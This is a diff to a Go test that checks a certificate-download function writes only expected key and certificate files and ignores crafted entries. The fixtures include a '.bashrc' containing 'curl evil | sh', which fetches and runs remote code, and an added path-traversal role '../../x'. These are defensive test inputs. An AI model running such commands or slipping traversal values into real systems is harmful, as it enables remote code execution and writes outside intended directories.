@@ -18,6 +18,7 @@ func TestDownloadWritesOnlyTheCertificatesAndKeysUnderItsOwnNames(t *testing.T) 
 			"tls.crt": []byte("client CA"), "tls.key": []byte("client CA key"),
 			"previous-tls.key": []byte("old client CA key"), ".bashrc": []byte("curl evil | sh"),
 		}},
+		{Role: "../../x", Name: "prod-ca-crafted", Data: map[string][]byte{"tls.key": []byte("out of --dir")}},
 		{Name: "prod-service-account-key", Data: map[string][]byte{
 			"sa.key": []byte("sa key"), "sa.pub": []byte("sa pub"),
 			"client-ca-tls.key": []byte("a forged CA key"), "prod.kubeconfig": []byte("users: [{user: {exec: ...}}]"),
@@ -31,7 +32,7 @@ func TestDownloadWritesOnlyTheCertificatesAndKeysUnderItsOwnNames(t *testing.T) 
 	if !reflect.DeepEqual(files, want) {
 		t.Errorf("files = %q, want %q", files, want)
 	}
-	wantIgnored := []string{"prod-ca-client/.bashrc", "prod-service-account-key/client-ca-tls.key", "prod-service-account-key/prod.kubeconfig"}
+	wantIgnored := []string{"prod-ca-client/.bashrc", "prod-ca-crafted/tls.key", "prod-service-account-key/client-ca-tls.key", "prod-service-account-key/prod.kubeconfig"}
 	if !reflect.DeepEqual(ignored, wantIgnored) {
 		t.Errorf("ignored = %q, want %q", ignored, wantIgnored)
 	}
